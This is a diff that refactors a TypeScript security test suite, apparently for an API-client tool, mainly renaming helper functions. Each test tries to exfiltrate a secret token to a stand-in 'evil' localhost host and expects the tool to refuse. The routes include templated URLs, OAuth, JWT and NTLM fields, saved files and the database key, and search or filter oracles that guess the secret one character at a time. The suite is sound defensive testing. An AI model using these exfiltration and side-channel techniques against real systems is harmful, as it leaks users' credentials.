@@ -12,15 +12,15 @@ export type Attack = readonly [
   attempt: (lab: Lab) => Promise<unknown>,
 ];
 
-const refused = /^SECRET_HOST_REFUSED$/;
-const away = (lab: Lab, path = ''): string => `http://localhost:${lab.evil}${path}`;
+const refusedCode = /^SECRET_HOST_REFUSED$/;
+const getEvilUrl = (lab: Lab, path = ''): string => `http://localhost:${lab.evil}${path}`;
 const home = (lab: Lab, path = ''): string => `http://127.0.0.1:${lab.home}${path}`;
 
 /** Of the value, and what is none. */
 const [right, wrong] = [token.slice(0, 5), 'Qx7Jd'] as const;
 
 /** Whether a guess that is right is answered as one that is not: a difference would tell one character after another. */
-const sameFor = async (ask: (guess: string) => Promise<unknown>): Promise<string> => {
+const compareAnswers = async (ask: (guess: string) => Promise<unknown>): Promise<string> => {
   const answers = [right, wrong].map(async (guess) =>
     JSON.stringify(await ask(guess))
       .replaceAll(guess, 'guess')
@@ -31,7 +31,7 @@ const sameFor = async (ask: (guess: string) => Promise<unknown>): Promise<string
 };
 
 /** A request in which a person has written the value itself. */
-const written = async (lab: Lab): Promise<string> => {
+const createRequestWithValue = async (lab: Lab): Promise<string> => {
   const headers = [{ name: 'X', value: `Bearer ${token}`, enabled: true }];
   const fields = { url: home(lab), headers, script: `const token = '${token}';` };
   const name = `Written ${Math.random()}`;
@@ -39,7 +39,7 @@ const written = async (lab: Lab): Promise<string> => {
 };
 
 /** An execution whose response has the value. */
-const answered = async (lab: Lab, more: object = {}) =>
+const executeWithValue = async (lab: Lab, more: object = {}) =>
   (await lab.execute({ url: home(lab, '/{{TOKEN}}') }, { ...more })) as {
     readonly executionId: string;
     readonly request: { readonly id: string };
@@ -51,15 +51,15 @@ const codeOf = (result: unknown): Outcome => {
   return /\b(SECRET_HOST_REFUSED)\b/.exec(text)?.[1] ?? text;
 };
 
-const signedIn = async (lab: Lab, auth: object): Promise<Outcome> => {
-  const whole = { type: 'oauth2', clientId: 'c', accessTokenUrl: away(lab, '/t'), ...auth };
+const sendWithOAuth = async (lab: Lab, auth: object): Promise<Outcome> => {
+  const whole = { type: 'oauth2', clientId: 'c', accessTokenUrl: getEvilUrl(lab, '/t'), ...auth };
   const { id } = await lab.call('rest_create', { name: `OA${Math.random()}`, url: home(lab), auth: whole });
   return codeOf(await lab.call('tokens_begin', { id }));
 };
 
 const jwt = (lab: Lab, more: object) =>
   lab.send({
-    url: away(lab),
+    url: getEvilUrl(lab),
     auth: { type: 'jwt', algorithm: 'HS256', secret: 'k'.repeat(32), claims: '{}', ...more },
   });
 
@@ -79,7 +79,7 @@ const challenge = (): string => {
 };
 
 /** Executes a request to another server, which asks for NTLM. */
-const byNtlm = async (lab: Lab, auth: object): Promise<Outcome> => {
+const sendWithNtlm = async (lab: Lab, auth: object): Promise<Outcome> => {
   const server = createServer(({ headers: { authorization = '' } }, response) => {
     if (authorization.startsWith('NTLM TlRMTVNTUAAD')) response.end('stolen');
     else if (authorization === '') response.writeHead(401, { 'www-authenticate': 'NTLM' }).end();
@@ -96,7 +96,7 @@ const byNtlm = async (lab: Lab, auth: object): Promise<Outcome> => {
   }
 };
 
-const connecting = async (lab: Lab, connections: object): Promise<Outcome> => {
+const sendWithConnections = async (lab: Lab, connections: object): Promise<Outcome> => {
   try {
     const changed = await lab.call('folders_update', { id: '', connections });
     return 'failed' in changed
@@ -123,8 +123,8 @@ export const moreAttacks: readonly Attack[] = [
     'a search of requests for its beginning',
     /^the same$/,
     async (lab) => {
-      await written(lab);
-      return sameFor((guess) => lab.call('rest_list', { search: guess }));
+      await createRequestWithValue(lab);
+      return compareAnswers((guess) => lab.call('rest_list', { search: guess }));
     },
   ],
   [
@@ -132,8 +132,8 @@ export const moreAttacks: readonly Attack[] = [
     'a search of executions for its beginning',
     /^the same$/,
     async (lab) => {
-      await answered(lab);
-      return sameFor((guess) => lab.call('executions_list', { search: guess }));
+      await executeWithValue(lab);
+      return compareAnswers((guess) => lab.call('executions_list', { search: guess }));
     },
   ],
   [
@@ -141,8 +141,10 @@ export const moreAttacks: readonly Attack[] = [
     'an edit that replaces its beginning in a script',
     /^the same$/,
     async (lab) => {
-      const id = await written(lab);
-      return sameFor((guess) => lab.call('rest_update_script', { id, edits: [{ old: guess, new: guess }] }));
+      const id = await createRequestWithValue(lab);
+      return compareAnswers((guess) =>
+        lab.call('rest_update_script', { id, edits: [{ old: guess, new: guess }] }),
+      );
     },
   ],
   [
@@ -150,9 +152,9 @@ export const moreAttacks: readonly Attack[] = [
     'the line that resembles an edit',
     /^the same$/,
     async (lab) => {
-      const id = await written(lab);
+      const id = await createRequestWithValue(lab);
       const edits = (guess: string) => [{ old: `const token = '${guess}`, new: '' }];
-      return sameFor((guess) => lab.call('rest_update_script', { id, edits: edits(guess) }));
+      return compareAnswers((guess) => lab.call('rest_update_script', { id, edits: edits(guess) }));
     },
   ],
   [
@@ -160,21 +162,28 @@ export const moreAttacks: readonly Attack[] = [
     'a filter over the response',
     /^the same$/,
     (lab) =>
-      sameFor(async (guess) => (await answered(lab, { select: `$[?search(@, '${guess}')]` })).selected),
+      compareAnswers(
+        async (guess) => (await executeWithValue(lab, { select: `$[?search(@, '${guess}')]` })).selected,
+      ),
   ],
   [
     'questions',
     'a comparison with the response',
     /^the same$/,
-    (lab) => sameFor(async (guess) => (await answered(lab, { select: `$[?@ > '/${guess}']` })).selected),
+    (lab) =>
+      compareAnswers(
+        async (guess) => (await executeWithValue(lab, { select: `$[?@ > '/${guess}']` })).selected,
+      ),
   ],
   [
     'questions',
     'a filter over a stored response',
     /^the same$/,
     async (lab) => {
-      const { executionId: id } = await answered(lab);
-      return sameFor((guess) => lab.call('executions_get', { id, select: `$[?search(@, '${guess}')]` }));
+      const { executionId: id } = await executeWithValue(lab);
+      return compareAnswers((guess) =>
+        lab.call('executions_get', { id, select: `$[?search(@, '${guess}')]` }),
+      );
     },
   ],
   [
@@ -182,7 +191,7 @@ export const moreAttacks: readonly Attack[] = [
     'a comparison of two responses',
     /‹secret:TOKEN›/,
     async (lab) => {
-      const { executionId: a } = await answered(lab);
+      const { executionId: a } = await executeWithValue(lab);
       const { executionId: b } = (await lab.execute({ url: home(lab, `/${right}`) })) as {
         executionId: string;
       };
@@ -194,7 +203,7 @@ export const moreAttacks: readonly Attack[] = [
     'a response that is cut at each of its characters',
     /^done$/,
     async (lab) => {
-      const { request } = await answered(lab);
+      const { request } = await executeWithValue(lab);
       for (let maxBodyBytes = 1; maxBodyBytes < 60; maxBodyBytes += 1)
         await lab.call('rest_execute', { id: request.id, maxBodyBytes });
       return 'done';
@@ -205,7 +214,7 @@ export const moreAttacks: readonly Attack[] = [
     'a stored response in parts of ten bytes',
     /^done$/,
     async (lab) => {
-      const { executionId: id } = await answered(lab);
+      const { executionId: id } = await executeWithValue(lab);
       for (let offset = 0; offset < 60; offset += 3)
         await lab.call('executions_get', { id, offset, length: 10 });
       return 'done';
@@ -216,7 +225,7 @@ export const moreAttacks: readonly Attack[] = [
     'an export in parts',
     /^done$/,
     async (lab) => {
-      await written(lab);
+      await createRequestWithValue(lab);
       for (const format of ['curl', 'har'])
         for (let offset = 0; offset < 400; offset += 90)
           await lab.call('exports_render', { format, offset, maxChars: 100 });
@@ -228,8 +237,12 @@ export const moreAttacks: readonly Attack[] = [
     'a saved response that another request sends',
     /^401$/,
     async (lab) => {
-      await answered(lab, { saveTo: 'files/saved.json' });
-      return lab.send({ method: 'POST', url: away(lab), body: { type: 'binary', file: 'files/saved.json' } });
+      await executeWithValue(lab, { saveTo: 'files/saved.json' });
+      return lab.send({
+        method: 'POST',
+        url: getEvilUrl(lab),
+        body: { type: 'binary', file: 'files/saved.json' },
+      });
     },
   ],
   [
@@ -237,7 +250,7 @@ export const moreAttacks: readonly Attack[] = [
     'a saved response that is imported',
     /INVALID_ARGUMENTS/,
     async (lab) => {
-      await answered(lab, { saveTo: 'files/saved.json' });
+      await executeWithValue(lab, { saveTo: 'files/saved.json' });
       return JSON.stringify(await lab.call('imports_apply', { file: 'files/saved.json' }));
     },
   ],
@@ -251,7 +264,7 @@ export const moreAttacks: readonly Attack[] = [
     'files',
     'a body that is the key of the database',
     /^FILE_REFUSED$/,
-    (lab) => lab.send({ method: 'POST', url: away(lab), body: { type: 'binary', file: key } }),
+    (lab) => lab.send({ method: 'POST', url: getEvilUrl(lab), body: { type: 'binary', file: key } }),
   ],
   [
     'files',
@@ -265,47 +278,49 @@ export const moreAttacks: readonly Attack[] = [
     'a client certificate',
     /^FILE_REFUSED$/,
     (lab) =>
-      connecting(lab, { clientCertificates: [{ type: 'pem', domain: 'localhost', certificate: key, key }] }),
+      sendWithConnections(lab, {
+        clientCertificates: [{ type: 'pem', domain: 'localhost', certificate: key, key }],
+      }),
   ],
-  ['files', 'a CA file', /^FILE_REFUSED$/, (lab) => connecting(lab, { ca: [key] })],
+  ['files', 'a CA file', /^FILE_REFUSED$/, (lab) => sendWithConnections(lab, { ca: [key] })],
   [
     'names',
     'an environment that extends the one with the secret',
-    refused,
+    refusedCode,
     async (lab) => {
       const name = `Below ${Math.random()}`;
       await lab.call('environments_create', { name, extends: 'Dev' });
-      return lab.send({ url: away(lab, '/{{TOKEN}}') }, { environment: name });
+      return lab.send({ url: getEvilUrl(lab, '/{{TOKEN}}') }, { environment: name });
     },
   ],
   [
     'names',
     'a copy of the environment with another name',
-    refused,
+    refusedCode,
     async (lab) => {
       const [copy, name] = [`Copy ${Math.random()}`, `Copied ${Math.random()}`];
       await lab.call('environments_create', { name: copy, copyOf: 'Dev' });
       await lab.call('environments_update', { id: copy, name });
-      return lab.send({ url: away(lab, '/{{TOKEN}}') }, { environment: name });
+      return lab.send({ url: getEvilUrl(lab, '/{{TOKEN}}') }, { environment: name });
     },
   ],
   [
     'names',
     'a variable within a variable',
-    refused,
+    refusedCode,
     async (lab) => {
       await lab.call('environments_update', {
         id: 'Dev',
         variables: { inner: '{{TOKEN}}', outer: '{{inner}}' },
       });
-      return lab.send({ url: away(lab, '/{{outer}}') });
+      return lab.send({ url: getEvilUrl(lab, '/{{outer}}') });
     },
   ],
   [
     'names',
     'a variable of the request',
-    refused,
-    (lab) => lab.send({ url: away(lab, '/{{mine}}'), requestVariables: { mine: '{{TOKEN}}' } }),
+    refusedCode,
+    (lab) => lab.send({ url: getEvilUrl(lab, '/{{mine}}'), requestVariables: { mine: '{{TOKEN}}' } }),
   ],
   [
     'names',
@@ -313,7 +328,10 @@ export const moreAttacks: readonly Attack[] = [
     /secret:TOKEN/,
     async (lab) =>
       JSON.stringify(
-        await lab.execute({ url: away(lab, '/{{TOKEN}}') }, { dryRun: true, variables: { TOKEN: 'x' } }),
+        await lab.execute(
+          { url: getEvilUrl(lab, '/{{TOKEN}}') },
+          { dryRun: true, variables: { TOKEN: 'x' } },
+        ),
       ),
   ],
   [
@@ -322,74 +340,93 @@ export const moreAttacks: readonly Attack[] = [
     /^401$/,
     async (lab) => {
       await lab.call('cookies_set', { name: 'c', value: '{{TOKEN}}', domain: 'localhost' });
-      return lab.send({ url: away(lab) });
+      return lab.send({ url: getEvilUrl(lab) });
     },
   ],
-  ['tokens', 'a claim of a JSON Web Token', refused, (lab) => jwt(lab, { claims: '{"a":"{{TOKEN}}"}' })],
-  ['tokens', 'the header of a JSON Web Token', refused, (lab) => jwt(lab, { header: '{"kid":"{{TOKEN}}"}' })],
+  ['tokens', 'a claim of a JSON Web Token', refusedCode, (lab) => jwt(lab, { claims: '{"a":"{{TOKEN}}"}' })],
+  [
+    'tokens',
+    'the header of a JSON Web Token',
+    refusedCode,
+    (lab) => jwt(lab, { header: '{"kid":"{{TOKEN}}"}' }),
+  ],
   [
     'tokens',
     'the page of an authorization server that a person opens',
-    refused,
+    refusedCode,
     (lab) =>
-      signedIn(lab, {
+      sendWithOAuth(lab, {
         grant: 'authorization_code',
-        authorizationUrl: away(lab, '/a'),
+        authorizationUrl: getEvilUrl(lab, '/a'),
         clientId: '{{TOKEN}}',
       }),
   ],
   [
     'tokens',
     'a parameter of that page',
-    refused,
+    refusedCode,
     (lab) =>
-      signedIn(lab, { grant: 'authorization_code', authorizationUrl: away(lab, '/a'), scope: '{{TOKEN}}' }),
+      sendWithOAuth(lab, {
+        grant: 'authorization_code',
+        authorizationUrl: getEvilUrl(lab, '/a'),
+        scope: '{{TOKEN}}',
+      }),
   ],
   [
     'tokens',
     'the client of a device code',
-    refused,
+    refusedCode,
     (lab) =>
-      signedIn(lab, { grant: 'device_code', deviceAuthorizationUrl: away(lab, '/d'), clientId: '{{TOKEN}}' }),
+      sendWithOAuth(lab, {
+        grant: 'device_code',
+        deviceAuthorizationUrl: getEvilUrl(lab, '/d'),
+        clientId: '{{TOKEN}}',
+      }),
   ],
   [
     'tokens',
     'the user of a password grant',
-    refused,
-    (lab) => signedIn(lab, { grant: 'password', username: '{{TOKEN}}', password: 'p' }),
+    refusedCode,
+    (lab) => sendWithOAuth(lab, { grant: 'password', username: '{{TOKEN}}', password: 'p' }),
   ],
   [
     'tokens',
     'the scope of client credentials',
-    refused,
-    (lab) => signedIn(lab, { grant: 'client_credentials', scope: '{{TOKEN}}' }),
+    refusedCode,
+    (lab) => sendWithOAuth(lab, { grant: 'client_credentials', scope: '{{TOKEN}}' }),
   ],
-  ['NTLM', 'the user', refused, (lab) => byNtlm(lab, { username: '{{TOKEN}}' })],
-  ['NTLM', 'the domain', refused, (lab) => byNtlm(lab, { domain: '{{TOKEN}}' })],
+  ['NTLM', 'the user', refusedCode, (lab) => sendWithNtlm(lab, { username: '{{TOKEN}}' })],
+  ['NTLM', 'the domain', refusedCode, (lab) => sendWithNtlm(lab, { domain: '{{TOKEN}}' })],
   [
     'repetitions',
     'a run with rows that tries again',
-    refused,
+    refusedCode,
     async (lab) => {
       const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
       return codeOf(
-        await lab.call('runs_execute', { ids: [id], rows: [{ to: away(lab) }], retry: 2, report: 'full' }),
+        await lab.call('runs_execute', {
+          ids: [id],
+          rows: [{ to: getEvilUrl(lab) }],
+          retry: 2,
+          report: 'full',
+        }),
       );
     },
   ],
   [
     'repetitions',
     'many requests with a variable of the call',
-    refused,
+    refusedCode,
     async (lab) => {
       const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
-      return codeOf(await lab.call('rest_execute_many', { ids: [id], variables: { to: away(lab) } }));
+      return codeOf(await lab.call('rest_execute_many', { ids: [id], variables: { to: getEvilUrl(lab) } }));
     },
   ],
   [
     'repetitions',
     'the URL of an introspection',
     /may only be sent to/,
-    async (lab) => JSON.stringify(await lab.call('graphql_introspect', { url: away(lab, '/{{TOKEN}}') })),
+    async (lab) =>
+      JSON.stringify(await lab.call('graphql_introspect', { url: getEvilUrl(lab, '/{{TOKEN}}') })),
   ],
 ];
